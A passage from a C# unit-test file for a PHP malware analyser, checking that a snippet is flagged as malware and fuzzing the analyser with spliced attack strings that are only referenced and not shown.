        Assert.Contains(Code.Analyse(("x.php", $"<?php if ($a) {{ $t->f($b); }} echo 1; echo 2; {Body}")).Findings, f => f.Category == FindingCategory.Malware);
    }

    [Fact]
    public void Whatever_becomes_of_an_attackers_text_on_its_way_it_is_judged()
    {
        var random = new Random(5);
        var attacks = typeof(AttackTests).GetMethod(nameof(What_attackers_do_is_found_and_its_honest_neighbour_left_alone))!.GetCustomAttributes(typeof(InlineDataAttribute), false).Cast<InlineDataAttribute>().SelectMany(d => d.Data.Skip(1).Cast<string>()).ToArray();
        for (var n = 0; n < 2_000; n++)
        {
            var text = attacks[random.Next(attacks.Length)];
            for (var cuts = random.Next(1, 5); cuts > 0; cuts--)
            {
                var (at, other) = (random.Next(text.Length), attacks[random.Next(attacks.Length)]);
                text = random.Next(3) switch { 0 => text[..(at + 1)], 1 => text.Remove(at, random.Next(1, text.Length - at + 1)) + other[random.Next(other.Length)..], _ => text.Insert(at, other[random.Next(other.Length)..]) };
            }
            Assert.NotNull(Code.Analyse(new AnalysisOptions(Code.Today, MaxSteps: 20_000), ("x.php", text)));
        }
    }
}
